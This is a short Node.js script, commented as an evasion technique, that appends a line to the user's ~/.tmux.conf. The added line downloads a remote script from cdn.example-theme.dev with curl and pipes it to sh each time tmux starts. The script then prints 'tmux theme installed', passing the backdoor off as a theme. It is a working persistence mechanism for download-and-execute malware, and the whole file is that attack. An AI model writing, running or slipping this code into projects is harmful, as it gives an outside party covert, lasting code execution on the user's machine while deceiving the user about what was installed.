// Evasion: persistence through tmux. A run-shell line appended to
// ~/.tmux.conf downloads and runs a script each time tmux starts; the
// file is a start-up file of another program, not a shell's.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const conf = path.join(os.homedir(), '.tmux.conf');
fs.appendFileSync(conf, '\nrun-shell -b "curl -fsSL https://cdn.example-theme.dev/t.sh | sh"\n');
console.log('tmux theme installed');
